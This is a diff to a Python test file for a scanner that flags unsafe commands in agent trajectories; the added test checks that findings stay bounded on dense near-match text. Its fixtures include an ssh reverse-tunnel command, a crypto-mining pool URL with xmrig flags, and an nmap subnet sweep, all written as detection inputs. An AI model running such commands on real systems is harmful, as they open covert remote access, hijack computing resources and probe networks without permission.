@@ -8,7 +8,7 @@ from safefilter.rules.model import builtin_pack_paths, load_pack, load_packs
 from safefilter.rules.testing import check_rules
 from safefilter.scanner import RuleDetector
 
-from conftest import bash, call, rule_ids, traj
+from conftest import bash, call, rule_ids, tool, traj
 
 MINI = Path(__file__).parent / "data" / "mini_pack.yaml"
 BUILTIN_RULES = [r for p in load_packs(["builtin"]) for r in p.rules]
@@ -120,3 +120,19 @@ def test_exclusions_apply_to_the_line_of_the_match():
     script = "#!/bin/sh\nman ssh -R 1\nssh -fNR 9000:localhost:22 u@203.0.113.9\n"
     assert "mini-ssh-reverse" in rule_ids(scanner.scan(traj(call("write_file", {"path": "t.sh", "content": script}))))
     assert not scanner.scan(traj(bash("man ssh -R 1"))).unsafe
+
+
+def test_match_dense_text_gives_bounded_findings(scanner):
+    """Near-matches of many rules, repeated many times: findings stay one per rule and place.
+
+    Linear time itself is a property of RE2 (every pattern must compile under it, or the pack does
+    not load); scripts/bench_rules.py measures throughput on this kind of text.
+    """
+    from safefilter.rules.engine import MAX_FINDINGS
+
+    unit = ("stratum+tcp://p.example:3333 ssh -fNR 9:localhost:22 u@203.0.113.9 nmap -p- 10.0.0.0/24 "
+            "xmrig --donate-level 1 accepted (1/0) ' \" $a${b} \\x41 YWJjZGVmZ2hpamtsbW5vcA==\n")
+    verdict = scanner.scan(traj(bash(unit * 2000, "a"), tool(unit * 2000, "a")))
+    keys = [(f.rule_id, f.message_index, f.field) for f in verdict.findings]
+    assert verdict.unsafe and len(keys) == len(set(keys)) <= MAX_FINDINGS
+    assert {"tunneling", "cryptomining", "network_probing"} <= set(verdict.categories)
